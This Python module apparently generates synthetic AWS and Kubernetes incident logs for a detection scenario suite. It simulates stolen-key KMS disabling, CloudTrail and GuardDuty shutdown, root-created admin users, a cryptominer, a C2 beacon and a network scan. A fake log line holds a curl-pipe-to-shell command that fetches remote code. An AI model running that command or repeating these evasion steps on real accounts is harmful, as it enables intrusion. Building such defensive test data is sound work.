"""More AWS fault and attack kinds for the scenario suite (issue 4, point 8).

Why a separate module: see :mod:`.kinds_kubernetes`. These kinds are seen mostly through
CloudTrail and VPC Flow Logs, with the Kubernetes side (pods that break, nodes that log) where
a real incident of that kind would show one. Addresses used by attackers come from ranges that
no background user ever calls from.
"""

from __future__ import annotations

from logswarm.scenarios.catalogue import Outcome, _ct_user, _trace, caller_errors, scenario
from logswarm.scenarios.engine import Injection
from logswarm.scenarios.formats import NS
from logswarm.scenarios.kinds_kubernetes import red_herring

__all__: list[str] = []


def _addr(ctx: Injection, first: tuple[int, ...]) -> str:
    return (
        f"{ctx.rng.choice(first)}.{ctx.rng.randint(0, 255)}.{ctx.rng.randint(0, 255)}."
        f"{ctx.rng.randint(2, 250)}"
    )


_TOR_UA = "aws-cli/1.16.312 Python/2.7.17 Linux/4.15.0 botocore/1.13.48"


@scenario(
    "nat_gateway_port_exhaustion",
    category="aws",
    title="NAT gateway source-port exhaustion after keep-alive was disabled",
    remediation="rollback_deployment",
    minutes=10,
)
def nat_gateway_port_exhaustion(ctx: Injection) -> Outcome:
    aws = ctx.aws
    dep = ctx.topo.deployments["checkout"]
    new_hash = ctx.topo.new_rs_hash()
    t = ctx.start
    ctx.event(
        t,
        kind="Deployment",
        name="checkout",
        namespace="shop",
        uid=dep.pods[0].uid,
        type_="Normal",
        reason="ScalingReplicaSet",
        message=f"Scaled up replica set checkout-{new_hash} to 2",
        component="deployment-controller",
    )
    partner = f"93.184.{ctx.rng.randint(0, 255)}.{ctx.rng.randint(2, 250)}"
    for i in range(240):
        tt = t + int((30 + i * 1.5) * NS)
        pod = dep.pods[i % 2]
        sport = 1024 + (i * 211) % 64000
        ctx.flow(
            tt,
            eni=aws.nat_eni,
            src=aws.nat_ip,
            dst=partner,
            sport=sport,
            dport=443,
            packets=ctx.rng.randint(6, 12),
            size=ctx.rng.randint(900, 3000),
            seconds=1,
        )
        if i % 4 == 0:
            ctx.app(
                pod,
                tt + NS,
                "error",
                f"shipping quote failed: dial tcp {partner}:443: connect: connection timed out",
                nat_error="ErrorPortAllocation",
                keepalive=False,
            )
    caller_errors(
        ctx, "checkout", t + 60 * NS, ctx.end, every_s=12.0, error="504", status=504, depth=1
    )
    ctx.metric(
        f"natgw/{aws.nat_eni}", "error_port_allocation", start=t + 30 * NS, end=ctx.end,
        op="add", value=400,
    )  # fmt: skip
    ctx.metric("checkout", "error_rate", start=t + 30 * NS, end=ctx.end, op="add", value=0.2)
    red_herring(ctx, avoid="checkout")
    return Outcome("nat_port_exhaustion:deployment/checkout", ["checkout", aws.nat_eni, partner])


@scenario(
    "kms_key_disabled",
    category="aws",
    title="KMS key disabled by a stolen access key (encryption ransom)",
    remediation="deactivate_access_key",
    minutes=8,
)
def kms_key_disabled(ctx: Injection) -> Outcome:
    bob = ctx.aws.user("bob")
    attacker = _addr(ctx, (102, 176, 185))
    key_id = f"{_trace(ctx)[:8]}-{_trace(ctx)[:4]}-4{_trace(ctx)[:3]}-a{_trace(ctx)[:3]}-{_trace(ctx)[:12]}"
    arn = f"arn:aws:kms:{ctx.aws.region}:{ctx.aws.account_id}:key/{key_id}"
    t = ctx.start
    for i, name in enumerate(("ListKeys", "DescribeKey", "DisableKey", "ScheduleKeyDeletion")):
        req: dict[str, object] | None = {"keyId": key_id}
        if name == "ListKeys":
            req = None
        elif name == "ScheduleKeyDeletion":
            req = {"keyId": key_id, "pendingWindowInDays": 7}
        _ct_user(
            ctx,
            t + i * 20 * NS,
            "bob",
            "kms.amazonaws.com",
            name,
            ip=attacker,
            ua=_TOR_UA,
            request=req,
            resources=[{"ARN": arn, "accountId": ctx.aws.account_id, "type": "AWS::KMS::Key"}],
            read_only=name in ("ListKeys", "DescribeKey"),
        )
    dep = ctx.topo.deployments["checkout"]
    for tt in ctx_every(ctx, t + 70 * NS, ctx.end, 3, 8):
        pod = ctx.rng.choice(dep.pods)
        ctx.app(
            pod,
            tt,
            "error",
            f"decrypt order payload failed: KMSInvalidStateException: {arn} is pending deletion.",
        )
        if ctx.rng.random() < 0.3:
            ctx.cloudtrail(
                tt + NS,
                event_source="kms.amazonaws.com",
                event_name="Decrypt",
                user_type="AssumedRole",
                principal="checkout-irsa",
                access_key="ASIA" + _trace(ctx)[:16].upper(),
                source_ip=ctx.aws.nat_ip,
                user_agent="aws-sdk-go-v2/1.30.3",
                error_code="KMSInvalidStateException",
                error_message=f"{arn} is pending deletion.",
                resources=[{"ARN": arn, "accountId": ctx.aws.account_id, "type": "AWS::KMS::Key"}],
                read_only=True,
            )
    ctx.metric("checkout", "error_rate", start=t + 70 * NS, end=ctx.end, op="add", value=0.5)
    red_herring(ctx, avoid="checkout")
    return Outcome(
        f"kms_key_disabled:access_key/{bob.access_key}", [bob.access_key, "bob", attacker, key_id]
    )


def ctx_every(ctx: Injection, start: int, end: int, lo: float, hi: float) -> list[int]:
    out: list[int] = []
    t = start
    while t < end:
        out.append(t)
        t += int(ctx.rng.uniform(lo, hi) * NS)
    return out


@scenario(
    "cloudtrail_logging_disabled",
    category="aws",
    title="CloudTrail logging stopped (defense evasion)",
    remediation="deactivate_access_key",
    minutes=6,
)
def cloudtrail_logging_disabled(ctx: Injection) -> Outcome:
    ci = ctx.aws.user("ci-deploy")
    attacker = _addr(ctx, (45, 89, 194))
    trail = f"arn:aws:cloudtrail:{ctx.aws.region}:{ctx.aws.account_id}:trail/org-trail"
    t = ctx.start
    calls = (
        ("sts.amazonaws.com", "GetCallerIdentity", None, True),
        ("cloudtrail.amazonaws.com", "DescribeTrails", None, True),
        ("cloudtrail.amazonaws.com", "StopLogging", {"name": trail}, False),
        ("cloudtrail.amazonaws.com", "PutEventSelectors", {"trailName": trail}, False),
        ("guardduty.amazonaws.com", "DeleteDetector", {"detectorId": _trace(ctx)}, False),
        ("iam.amazonaws.com", "ListUsers", None, True),
        ("ec2.amazonaws.com", "DescribeInstances", None, True),
    )
    for i, (source, name, req, ro) in enumerate(calls):
        _ct_user(
            ctx,
            t + i * 15 * NS,
            "ci-deploy",
            source,
            name,
            ip=attacker,
            ua=_TOR_UA,
            request=req,
            read_only=ro,
        )
    ctx.metric(
        "cloudtrail/org-trail",
        "is_logging",
        start=t + 30 * NS,
        end=ctx.world.t_end,
        op="set",
        value=0,
    )
    red_herring(ctx, avoid="")
    return Outcome(
        f"cloudtrail_disabled:access_key/{ci.access_key}", [ci.access_key, "ci-deploy", attacker]
    )


@scenario(
    "root_account_usage",
    category="aws",
    title="Root account used with an access key from a new address",
    remediation="deactivate_access_key",
    minutes=6,
)
def root_account_usage(ctx: Injection) -> Outcome:
    acct = ctx.aws.account_id
    ip = _addr(ctx, (154, 197))
    root_key = "AKIA" + "".join(
        ctx.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)
    )
    t = ctx.start
    calls = (
        ("iam.amazonaws.com", "GetAccountSummary", None),
        ("iam.amazonaws.com", "ListAccessKeys", None),
        ("organizations.amazonaws.com", "DescribeOrganization", None),
        ("iam.amazonaws.com", "CreateUser", {"userName": "support-admin"}),
        (
            "iam.amazonaws.com",
            "AttachUserPolicy",
            {
                "userName": "support-admin",
                "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess",
            },
        ),
        ("s3.amazonaws.com", "ListBuckets", None),
    )
    for i, (source, name, req) in enumerate(calls):
        ctx.cloudtrail(
            t + i * 25 * NS,
            event_source=source,
            event_name=name,
            user_type="Root",
            principal="root",
            access_key=root_key,
            source_ip=ip,
            user_agent=_TOR_UA,
            request=req,
            read_only=req is None,
            additional={"MFAUsed": "No"},
        )
    ctx.metric(
        f"account/{acct}", "root_api_calls_per_min", start=t, end=t + 150 * NS, op="add", value=2
    )
    red_herring(ctx, avoid="")
    return Outcome(f"root_usage:access_key/{root_key}", [root_key, acct, ip, "support-admin"])


@scenario(
    "security_group_open_db",
    category="aws",
    title="Database security group opened to the world on 5432",
    remediation="revoke_security_group_ingress",
    minutes=8,
)
def security_group_open_db(ctx: Injection) -> Outcome:
    aws = ctx.aws
    sg = aws.security_groups["db"]
    t = ctx.start
    _ct_user(
        ctx,
        t,
        "alice",
        "ec2.amazonaws.com",
        "AuthorizeSecurityGroupIngress",
        ua="console.ec2.amazonaws.com",
        request={
            "groupId": sg,
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 5432,
                        "toPort": 5432,
                        "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0", "description": "debug"}]},
                    }
                ]
            },
        },
        response={"_return": True},
    )
    db = ctx.topo.deployments["orders-db"].pods[0]
    for tt in ctx_every(ctx, t + 120 * NS, ctx.end, 3, 9):
        src = _addr(ctx, (36, 61, 112, 185, 222))
        ctx.flow(
            tt,
            eni=aws.db_eni,
            src=src,
            dst=aws.db_ip,
            sport=ctx.rng.randint(32768, 60999),
            dport=5432,
            packets=ctx.rng.randint(6, 14),
            size=ctx.rng.randint(600, 1400),
            seconds=2,
        )
        if ctx.rng.random() < 0.5:
            ctx.app(
                db,
                tt + NS,
                "error",
                f'password authentication failed for user "postgres" (client {src})',
            )
    ctx.involve("orders-db", db.name)
    ctx.metric(f"sg/{sg}", "world_open_ingress_rules", start=t, end=ctx.end, op="set", value=1)
    ctx.metric(
        "orders-db", "auth_failures_per_min", start=t + 120 * NS, end=ctx.end, op="add", value=6
    )
    red_herring(ctx, avoid="orders-db")
    return Outcome(f"sg_open_world:security_group/{sg}", [sg, "alice", aws.db_eni])


@scenario(
    "crypto_mining_pod",
    category="aws",
    title="Compromised pod mining cryptocurrency",
    remediation="isolate_pod",
    minutes=10,
)
def crypto_mining_pod(ctx: Injection) -> Outcome:
    pod = ctx.topo.deployments["catalog"].pods[1]
    pool = _addr(ctx, (51, 139, 144))
    t = ctx.start
    ctx.raw(
        pod,
        t,
        f"sh: curl -s http://{pool}/x.sh | sh",
        stream="stderr",
    )
    ctx.raw(
        pod, t + 3 * NS, f"[xmrig] use pool stratum+tcp://{pool}:3333  TLS off", stream="stdout"
    )
    for tt in ctx_every(ctx, t + 10 * NS, ctx.end, 20, 40):
        ctx.raw(
            pod,
            tt,
            f"[xmrig] speed 10s/60s/15m {ctx.rng.randint(900, 1300)}.0 n/a n/a H/s max "
            f"1412.3 H/s; accepted ({ctx.rng.randint(1, 400)}/0) diff 120001",
            stream="stdout",
        )
    for tt in ctx_every(ctx, t + 5 * NS, ctx.end, 30, 60):
        ctx.flow(
            tt,
            eni=pod.node.eni,
            src=pod.ip,
            dst=pool,
            sport=ctx.rng.randint(32768, 60999),
            dport=3333,
            packets=ctx.rng.randint(20, 80),
            size=ctx.rng.randint(3000, 12000),
            seconds=58,
        )
    ctx.metric("catalog", "cpu_millicores", start=t, end=ctx.end, op="set", value=1990)
    red_herring(ctx, avoid="catalog")
    return Outcome(f"compromised_instance:pod/{pod.name}", [pod.name, "catalog", pool])


@scenario(
    "ssh_brute_force",
    category="aws",
    title="SSH brute force against a worker node from one address",
    remediation="add_nacl_deny",
    minutes=8,
)
def ssh_brute_force(ctx: Injection) -> Outcome:
    node = ctx.topo.nodes[0]
    attacker = _addr(ctx, (61, 116, 218))
    users = ("root", "admin", "ubuntu", "ec2-user", "test", "oracle", "postgres")
    t = ctx.start
    for i, tt in enumerate(ctx_every(ctx, t, ctx.end, 0.8, 2.5)):
        sport = ctx.rng.randint(32768, 60999)
        user = users[i % len(users)]
        ctx.flow(
            tt,
            eni=node.eni,
            src=attacker,
            dst=node.ip,
            sport=sport,
            dport=22,
            packets=ctx.rng.randint(10, 22),
            size=ctx.rng.randint(2000, 4200),
            seconds=3,
        )
        invalid = "" if user in ("root", "ec2-user") else "invalid user "
        ctx.syslog(
            node,
            tt + NS,
            "sshd",
            "warn",
            f"Failed password for {invalid}{user} from {attacker} port {sport} ssh2",
        )
    ctx.metric(
        f"node/{node.name}", "ssh_auth_failures_per_min", start=t, end=ctx.end, op="add", value=35
    )
    red_herring(ctx, avoid="")
    return Outcome(f"ssh_brute_force:ip/{attacker}", [attacker, node.name])


@scenario(
    "bastion_c2_beacon",
    category="aws",
    title="Bastion instance beaconing to a command-and-control server",
    remediation="stop_instance",
    minutes=10,
)
def bastion_c2_beacon(ctx: Injection) -> Outcome:
    aws = ctx.aws
    c2 = _addr(ctx, (5, 91, 185))
    t = ctx.start
    # The beacon: the same small request every 60 s (+/- 2 s), to an odd port, for the whole span.
    tt = t
    while tt < ctx.end:
        ctx.flow(
            tt,
            eni=aws.bastion_eni,
            src=aws.bastion_ip,
            dst=c2,
            sport=ctx.rng.randint(32768, 60999),
            dport=8443,
            packets=4,
            size=ctx.rng.randint(310, 330),
            seconds=1,
        )
        tt += int((60 + ctx.rng.uniform(-2, 2)) * NS)
    _ct_user(
        ctx,
        t + 200 * NS,
        "svc-backup",
        "ec2.amazonaws.com",
        "DescribeInstances",
        ip=aws.bastion_ip,
        ua="Boto3/1.35.10 md/Botocore",
        request={"instancesSet": {"items": [{"instanceId": aws.bastion_instance}]}},
        read_only=True,
    )
    for i in range(3):
        ctx.flow(
            t + (240 + 30 * i) * NS,
            eni=aws.bastion_eni,
            src=aws.bastion_ip,
            dst=c2,
            sport=ctx.rng.randint(32768, 60999),
            dport=8443,
            packets=ctx.rng.randint(4000, 9000),
            size=ctx.rng.randint(4_000_000, 9_000_000),
            seconds=25,
        )
    ctx.metric(
        f"ec2/{aws.bastion_instance}", "network_out_bytes", start=t + 240 * NS,
        end=t + 330 * NS, op="add", value=2.0e8,
    )  # fmt: skip
    red_herring(ctx, avoid="")
    return Outcome(
        f"compromised_instance:instance/{aws.bastion_instance}",
        [aws.bastion_instance, aws.bastion_eni, aws.bastion_ip, c2],
    )


@scenario(
    "lateral_movement_scan",
    category="aws",
    title="Compromised pod scanning the VPC (lateral movement)",
    remediation="isolate_pod",
    minutes=6,
)
def lateral_movement_scan(ctx: Injection) -> Outcome:
    aws = ctx.aws
    pod = ctx.topo.deployments["cart"].pods[0]
    targets = [(n.eni, n.ip) for n in ctx.topo.nodes] + [(aws.db_eni, aws.db_ip)]
    ports = [22, 80, 443, 2379, 3306, 5432, 6379, 8080, 9200, 10250, 27017]
    t = ctx.start
    ctx.raw(pod, t, "sh: nmap: not found", stream="stderr")
    ctx.raw(
        pod,
        t + 2 * NS,
        f"[scan] {pod.ip} -> 10.0.0.0/16 ports {','.join(map(str, ports))} (connect scan)",
        stream="stdout",
    )
    i = 0
    for eni, dst in targets:
        for port in ports:
            tt = t + int((5 + i * 0.7) * NS)
            i += 1
            ctx.flow(
                tt,
                eni=eni,
                src=pod.ip,
                dst=dst,
                sport=ctx.rng.randint(40000, 40100),
                dport=port,
                packets=1,
                size=60,
                action="ACCEPT" if port in (10250, 5432) else "REJECT",
            )
    node = ctx.topo.nodes[0]
    ctx.kubelet(
        node,
        t + 20 * NS,
        "warn",
        f'server.go:303] "Unauthorized request to kubelet API" remote="{pod.ip}:40022" '
        'path="/pods" node=' + node.name,
    )
    ctx.metric("cart", "outbound_connections_per_s", start=t, end=t + 60 * NS, op="add", value=9)
    red_herring(ctx, avoid="cart")
    return Outcome(f"lateral_movement:pod/{pod.name}", [pod.name, "cart", pod.ip])
